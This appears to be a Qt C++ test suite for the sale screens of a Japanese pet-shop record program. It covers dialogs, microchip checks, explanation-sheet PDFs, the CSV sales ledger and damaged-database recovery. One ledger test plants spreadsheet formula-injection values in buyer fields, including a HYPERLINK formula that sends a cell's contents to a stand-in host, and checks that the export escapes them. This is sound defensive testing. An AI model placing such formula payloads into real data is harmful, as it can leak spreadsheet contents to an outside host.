#include "backup/BackupService.h"
#include "sale/ExplanationSheet.h"
#include "store/PetRecord.h"
#include "store/SaleStore.h"
#include "store/ShopSettings.h"
#include "support/CsvReader.h"
#include "support/DialogDriver.h"
#include "support/PdfText.h"
#include "support/ProgramFixture.h"

#include <QAction>
#include <QCheckBox>
#include <QComboBox>
#include <QDialog>
#include <QDialogButtonBox>
#include <QFileInfo>
#include <QLineEdit>
#include <QListWidget>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QTest>

#include <memory>

namespace {

QByteArray shibaRecord()
{
    PetRecord record{};
    record.BirthYear = 2024;
    record.BirthMonth = 4;
    record.BirthDay = 15;
    setText(record.Kind, QStringLiteral("柴犬"));
    setText(record.Sex, QStringLiteral("メス"));
    setText(record.CoatColour, QStringLiteral("赤"));
    setText(record.Birthplace, QStringLiteral("関東地方"));
    setText(record.Medication1, QStringLiteral("2024年6月1日   混合ワクチン   済み"));
    setText(record.SaleDate, QStringLiteral("2024/8/20"));
    return QByteArray(reinterpret_cast<const char*>(&record), RecordLength);
}

const QString Chip = QStringLiteral("392141000123456");

ChartSale withChip(const QString& microchip)
{
    ChartSale sale;
    sale.microchip = microchip;
    return sale;
}

void type(QDialog* dialog, const char* box, const QString& text)
{
    dialog->findChild<QLineEdit*>(QString::fromLatin1(box))->setText(text);
}

void pressOk(QDialog* dialog)
{
    dialog->findChild<QDialogButtonBox*>("buttonBox")->button(QDialogButtonBox::Ok)->click();
}

} // namespace

// The sale information on the screens: the dialogs, the explanation sheet and the ledger.
class TestSaleScreens : public QObject
{
    Q_OBJECT
private slots:
    void init();
    void cleanup() { f.reset(); }

    void saleInfoSavesLoadsAndCancels();
    void microchipRefusedOrConfirmed();
    void explanationSheetAsPdf();
    void explanationSheetPrinted();
    void ledgerReadsBack();
    void deletedChartTakesItsSaleInformation();
    void damagedSaleFileCostsNoChartNorBackup();
    void breedAndDealerInfo();

private:
    QAction* action(const QString& name) const { return f->window("Form2")->findChild<QAction*>(name); }

    std::unique_ptr<ProgramFixture> f;
};

void TestSaleScreens::init()
{
    f = std::make_unique<ProgramFixture>();
    writeFileBytes("detapetto.dt", shibaRecord() + shibaRecord());
    f->start();
    QTest::mouseClick(f->control<QPushButton>("Form1", "Command1"), Qt::LeftButton);
    QVERIFY(QTest::qWaitForWindowActive(f->window("Form2")));
}

void TestSaleScreens::saleInfoSavesLoadsAndCancels()
{
    whenDialogShows([](QDialog* dialog) {
        QCOMPARE(dialog->objectName(), QStringLiteral("SaleInfo"));
        type(dialog, "microchip", QStringLiteral("３９２１４１０００１２３４５６"));
        type(dialog, "buyerName", QStringLiteral("山田 花子"));
        type(dialog, "explainedOn", QStringLiteral("２０２６年１２月７日"));
        dialog->findChild<QCheckBox*>("neutered")->setChecked(true);
        pressOk(dialog);
    });
    action("actSaleInfo")->trigger();
    const ChartSale saved = f->program->sales().chartSale(1);
    QCOMPARE(saved.microchip, Chip);
    QCOMPARE(saved.buyerName, QStringLiteral("山田 花子"));
    QCOMPARE(saved.explainedOn, QDate(2026, 12, 7));
    QVERIFY(saved.neutered);

    // Shown again as saved; Cancel throws away what was typed.
    whenDialogShows([](QDialog* dialog) {
        QCOMPARE(dialog->findChild<QLineEdit*>("microchip")->text(), Chip);
        QCOMPARE(dialog->findChild<QLineEdit*>("explainedOn")->text(), QStringLiteral("2026/12/7"));
        type(dialog, "buyerName", QStringLiteral("別の人"));
        dialog->findChild<QDialogButtonBox*>("buttonBox")->button(QDialogButtonBox::Cancel)->click();
    });
    action("actSaleInfo")->trigger();
    QCOMPARE(f->program->sales().chartSale(1), saved);
    QVERIFY(f->messages.asked.isEmpty());
}

void TestSaleScreens::microchipRefusedOrConfirmed()
{
    f->program->sales().saveChartSale(2, withChip(Chip));
    bool stayedOpen = false;
    whenDialogShows([&](QDialog* dialog) {
        type(dialog, "microchip", QStringLiteral("39214100012345")); // 14 digits
        pressOk(dialog);
        stayedOpen = dialog->isVisible() && dialog->findChild<QLineEdit*>("microchip")->text().size() == 14;
        // The same number as chart 2: the user is asked, and Cancel keeps the dialog.
        type(dialog, "microchip", Chip);
        f->messages.setNextAnswer(MessageBoxes::Answer::Cancel);
        pressOk(dialog);
        stayedOpen = stayedOpen && dialog->isVisible();
        pressOk(dialog); // OK to the question this time
    });
    action("actSaleInfo")->trigger();
    QVERIFY(stayedOpen);
    QCOMPARE(f->messages.asked.size(), 3);
    QVERIFY(f->messages.asked[0].text.contains(QStringLiteral("マイクロチップ番号")));
    QVERIFY(f->messages.asked[1].text.contains(QStringLiteral("カルテ 2 番")));
    QVERIFY(f->messages.asked[1].defaultAnswer == MessageBoxes::Answer::Cancel);
    QCOMPARE(f->program->sales().chartSale(1).microchip, Chip);
}

void TestSaleScreens::explanationSheetAsPdf()
{
    if (!canReadPdfText())
        QSKIP("pdftotext (poppler-utils) is not installed");
    ShopSettings::save(ShopSettings::Keys[0], QStringLiteral("ペットショップ空"));
    SaleStore& store = f->program->sales();
    ChartSale sale;
    sale.microchip = Chip;
    store.saveChartSale(1, sale);
    BreedTexts shiba;
    shiba.item(2) = QStringLiteral("体重 約8kg、体高 約38cm");
    shiba.item(3) = QStringLiteral("平均寿命 12〜15年");
    store.saveBreedTexts(QStringLiteral("柴犬"), shiba);
    store.saveDealerInfo({QStringLiteral("第東京123456号"), QStringLiteral("佐藤 一郎")});

    const QString path = f->path("sheet.pdf");
    f->files.setNextAnswer(path);
    action("actExplanationPdf")->trigger();
    QVERIFY(f->files.suggested.last().endsWith(QStringLiteral("販売時説明書_1.pdf")));
    const QString text = pdfTextAsDrawn(path).simplified().remove(u' ');
    qsizetype at = 0;
    for (const QString& title : Explanation::itemTitles()) {
        const qsizetype found = text.indexOf(QString(title).remove(u' '), at);
        QVERIFY2(found >= 0, qPrintable(title));
        at = found;
    }
    for (const QString& expected : QStringList{"柴犬", "メス", "2024/4/15", "体重約8kg、体高約38cm",
                                               "平均寿命12〜15年", Chip, "ペットショップ空", "第東京123456号",
                                               "佐藤一郎", "上記の説明を受け、書面を受領しました。"})
        QVERIFY2(text.contains(expected), qPrintable(expected));
    QVERIFY(f->messages.asked.isEmpty());
}

void TestSaleScreens::explanationSheetPrinted()
{
    action("actExplanation")->trigger();
    QCOMPARE(f->printer.documents.size(), 1);
    QCOMPARE(f->printer.documents.first().name, QStringLiteral("販売時説明書 1"));
    QVERIFY(f->printer.documents.first().pdf.startsWith("%PDF"));

    f->printer.failure = QStringLiteral("プリンタが見つかりません。");
    action("actExplanation")->trigger();
    QCOMPARE(f->messages.asked.last().text, QStringLiteral("プリンタが見つかりません。"));
}

void TestSaleScreens::ledgerReadsBack()
{
    ChartSale sale;
    sale.microchip = Chip;
    sale.buyerName = QStringLiteral("山田 花子");
    sale.buyerAddress = QStringLiteral("東京都千代田区1-2-3, 空ハイツ101");
    f->program->sales().saveChartSale(1, sale);
    // What a buyer's fields could hold to make a spreadsheet open a link or run a formula.
    ChartSale crafted;
    crafted.buyerName = QStringLiteral("=HYPERLINK(\"http://x\"&B2,\"詳細\")");
    crafted.buyerAddress = QStringLiteral("@SUM(A1)");
    crafted.buyerPhone = QStringLiteral("+81-90-1234-5678");
    f->program->sales().saveChartSale(2, crafted);
    const QString path = f->path("ledger.csv");
    f->files.setNextAnswer(path);
    action("actSaleLedger")->trigger();
    QVERIFY(f->files.suggested.last().endsWith(QStringLiteral("販売台帳_20261207.csv")));
    const QByteArray bytes = readFileBytes(path);
    const QList<QStringList> rows = readCsvFile(bytes);
    QCOMPARE(rows.size(), 3); // both charts have a sale date
    QCOMPARE(rows[0], (QStringList{"番号", "種類", "性別", "生年月日", "マイクロチップ番号", "販売日",
                                   "購入者氏名", "住所", "電話", "説明書交付日"}));
    QCOMPARE(rows[1], (QStringList{"1", "柴犬", "メス", "2024/4/15", Chip, "2024/8/20", "山田 花子",
                                   "東京都千代田区1-2-3, 空ハイツ101", "", ""}));
    QVERIFY(bytes.endsWith(QStringLiteral("\r\n2,柴犬,メス,2024/4/15,,2024/8/20,"
                                          "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"詳細\"\")\","
                                          "'@SUM(A1),'+81-90-1234-5678,\r\n")
                               .toUtf8()));
}

void TestSaleScreens::deletedChartTakesItsSaleInformation()
{
    for (const char* list :
         {"syurui.txt", "iro.txt", "tokucyou.txt", "kusuri.txt", "taicyou.txt", "shoku.txt"})
        writeFileBytes(QString::fromLatin1(list), QByteArray());
    f->program->sales().saveChartSale(1, withChip(Chip));
    f->program->sales().saveChartSale(2, withChip(QStringLiteral("392141000654321")));
    QTest::mouseClick(f->control<QPushButton>("Form2", "Command1"), Qt::LeftButton);
    QTest::mouseClick(f->control<QPushButton>("Form3", "Command2"), Qt::LeftButton);
    QTRY_VERIFY(!f->window("Form3"));
    QVERIFY(f->program->sales().chartSale(1).isEmpty());
    QCOMPARE(f->program->sales().chartSale(2).microchip, QStringLiteral("392141000654321"));
    QCOMPARE(recordBytes("detapetto.dt", 1).mid(16, 30), QByteArray(30, ' '));
}

void TestSaleScreens::damagedSaleFileCostsNoChartNorBackup()
{
    for (const char* list :
         {"syurui.txt", "iro.txt", "tokucyou.txt", "kusuri.txt", "taicyou.txt", "shoku.txt"})
        writeFileBytes(QString::fromLatin1(list), QByteArray());
    const QByteArray damaged(8192, 'x');
    writeFileBytes("soranika.db", damaged);

    // A backup holds the charts; the damaged file had nothing it could hold.
    BackupService& backups = f->program->backups();
    backups.createBackup(QStringLiteral("before.zip"));
    const BackupContents contents = backups.open(QStringLiteral("before.zip"));
    QCOMPARE(contents.recordCount(), 2);
    QCOMPARE(readFileBytes("soranika.db"), damaged);

    // "データ削除": the first try sets the file aside and changes no chart; the second deletes.
    QTest::mouseClick(f->control<QPushButton>("Form2", "Command1"), Qt::LeftButton);
    QTest::mouseClick(f->control<QPushButton>("Form3", "Command2"), Qt::LeftButton);
    QCOMPARE(f->messages.asked.size(), 1);
    QVERIFY(f->messages.asked[0].text.startsWith(
        QStringLiteral("データベースが壊れていたため、soranika-damaged-")));
    QVERIFY(f->window("Form3"));
    QCOMPARE(recordBytes("detapetto.dt", 1), shibaRecord());
    QTest::mouseClick(f->control<QPushButton>("Form3", "Command2"), Qt::LeftButton);
    QTRY_VERIFY(!f->window("Form3"));
    QCOMPARE(recordBytes("detapetto.dt", 1).mid(16, 30), QByteArray(30, ' '));
    QCOMPARE(f->messages.asked.size(), 1);

    // The backup made with the damaged file restores: the charts come back.
    backups.restore(contents);
    QCOMPARE(recordBytes("detapetto.dt", 1), shibaRecord());
}

void TestSaleScreens::breedAndDealerInfo()
{
    writeFileBytes("syurui.txt", sjis(QStringLiteral("柴犬\r\nチワワ\r\n柴犬\r\n")));
    whenDialogShows([](QDialog* dialog) {
        auto* breeds = dialog->findChild<QListWidget*>("breeds");
        QCOMPARE(breeds->count(), 2);
        breeds->setCurrentRow(1); // 柴犬, after チワワ in Japanese order
        dialog->findChild<QPlainTextEdit*>("item4")->setPlainText(QStringLiteral("室内ケージ"));
        breeds->setCurrentRow(0);
        dialog->findChild<QPlainTextEdit*>("item5")->setPlainText(QStringLiteral("1日2回"));
        pressOk(dialog);
    });
    action("actBreedInfo")->trigger();
    QCOMPARE(f->program->sales().breedTexts(QStringLiteral("柴犬")).item(4), QStringLiteral("室内ケージ"));
    QCOMPARE(f->program->sales().breedTexts(QStringLiteral("チワワ")).item(5), QStringLiteral("1日2回"));

    whenDialogShows([](QDialog* dialog) {
        type(dialog, "registrationNumber", QStringLiteral("第東京123456号"));
        type(dialog, "animalHandler", QStringLiteral("佐藤 一郎"));
        pressOk(dialog);
    });
    action("actDealerInfo")->trigger();
    QCOMPARE(f->program->sales().dealerInfo().animalHandler, QStringLiteral("佐藤 一郎"));

    // Like the other menus, these wait while typed trading values are not saved.
    ProgramFixture::activate(f->window("Form2"));
    QTest::mouseClick(f->control<QLineEdit>("Form2", "Text4"), Qt::LeftButton);
    for (const char* name : {"actSaleInfo", "actExplanation", "actExplanationPdf", "actBreedInfo",
                             "actSaleLedger", "actDealerInfo"})
        QVERIFY2(!action(name)->isEnabled(), name);
}

QTEST_MAIN(TestSaleScreens)
#include "test_sale_screens.moc"
